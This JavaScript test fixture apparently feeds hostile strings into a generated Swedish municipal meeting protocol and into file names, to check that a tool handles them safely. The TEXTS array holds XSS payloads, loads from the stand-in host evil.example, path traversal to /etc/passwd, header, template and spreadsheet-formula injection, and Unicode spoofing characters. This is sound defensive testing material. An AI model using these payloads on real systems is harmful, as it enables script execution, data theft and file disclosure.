// Texts that were written to be run, to break out of where they stand, or to be mistaken for something else.

const RUN = "executed(1)";

export const TEXTS = [
  // Elements
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="https://evil.example/pixel.png">`,
  `<svg onload=${RUN}>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><use href="https://evil.example/x.svg#a"/></svg>`,
  `<math><mtext><img src=x onerror=${RUN}></mtext></math>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="https://evil.example/x.swf">`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<form action="https://evil.example/"><button>Sök</button></form>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  // Attributes
  `"onmouseover="${RUN}`,
  `" autofocus onfocus="${RUN}" x="`,
  `' autofocus onfocus='${RUN}' x='`,
  `"><img src=x onerror=${RUN}>`,
  `'><svg onload=${RUN}>`,
  "` onerror=" + RUN + " `",
  `&quot;onmouseover=&quot;${RUN}`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  // Addresses
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}//`,
  `[a](javascript:${RUN})`,
  `data:text/html,<script>${RUN}</script>`,
  `//evil.example/%2e%2e`,
  `https://evil.example/?a=b&c=d#e`,
  `../../../../etc/passwd`,
  `%00%0d%0aSet-Cookie: a=b`,
  // Templates, styles, formulas, words of programs
  `{{constructor.constructor('${RUN}')()}}`,
  "${" + RUN + "}",
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `<style>*{background:url(https://evil.example/)}</style>`,
  `" style="position:fixed;inset:0;background:url(//evil.example/)`,
  `=HYPERLINK("https://evil.example/","Budget")`,
  `+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `null undefined NaN __proto__ constructor`,
  // Letters
  `beslut\u202E tug\u202C \u2066höger\u2069`,
  `av\u200Bslå\u200D\uFEFF\u00AD budget`,
  `Z̸̢̛͖a̷̡͇l̵̨̛g̶̢̛o̷ <b>`,
  `𝕓𝕖𝕤𝕝𝕦𝕥 🏛️👩‍👩‍👧‍👦 ﷽`,
  `${"ö".repeat(600)}`,
];

/** A word that finds the paper of a text. */
export const word = (n) => `fientlig${String(n).padStart(3, "0")}`;

/** A protocol that says the text wherever a paper can say something. */
export function paper(n, text) {
  return `Björnhults kommun                                              1(1)
Kommunstyrelsen ${text}

SAMMANTRÄDESPROTOKOLL
Sammanträdesdatum 2023-05-09

Plats och tid: Rum ${text}, kl 08.15 - 10.40
Beslutande: Eskil ${text} Norrgren (C) ordf., ${text} (S), Göran Utterberg (M)
Övriga deltagare: ${text}, kommunchef
Utses att justera: ${text}
Paragrafer: 1-3

§ 1                                         Dnr 2023.118 ${text}
${text} ${word(n)}

Kommunstyrelsen beslutar

att godkänna ${text} ${word(n)} för 1 850 000 kr, samt

att avslå ${text}.

Reservation
${text} (M) reserverar sig mot beslutet.

§ 2                                         Dnr 2023.131 041
Resultaträkning ${word(n)}

Resultaträkning ${text}, tkr
| Post ${text} | Bokslut 2022 | Budget 2023 |
| Intäkter ${text} | 100 | 200 |
| Kostnader ${text} | -40 | -50 |
| Avskrivningar | -10 | -20 |
| Årets resultat | 50 | 130 |

Kommunstyrelsen föreslår kommunfullmäktige besluta

att ${text} ${word(n)}.

§ 3
Yrkanden

${text} (S) yrkar bifall till ${text}.

Kommunstyrelsens beslut
1. ${text} ${word(n)} läggs till handlingarna.
`;
}

/** The name of its file; a slash cannot stand in it, nor more than 255 bytes. */
export const file = (n, text) => `${text.replaceAll("/", "∕").slice(0, 60)} ${n}.txt`;
